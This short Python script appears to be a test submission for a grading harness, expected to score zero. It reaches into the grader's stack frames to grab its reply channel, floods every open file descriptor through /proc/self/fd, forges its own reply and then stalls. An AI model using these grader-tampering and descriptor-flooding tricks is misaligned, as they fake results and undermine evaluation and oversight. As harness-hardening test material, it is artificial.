# Fills the channel that the grader will ask through, answers for itself, and never reads.
# points: 0
# seconds: 30
import os
import sys
import time

frame = sys._getframe()
while frame and "replies" not in frame.f_locals:
    frame = frame.f_back
protocol, request, replies = frame.f_globals["protocol"], frame.f_locals["request"], frame.f_locals["replies"]
for descriptor in range(3, 100):
    try:
        reopened = os.open(f"/proc/self/fd/{descriptor}", os.O_WRONLY | os.O_NONBLOCK)
        while True:
            os.write(reopened, b"x" * 4096)
    except OSError:
        pass
protocol.write(replies, protocol.Message(request.id, {}))
time.sleep(1000)
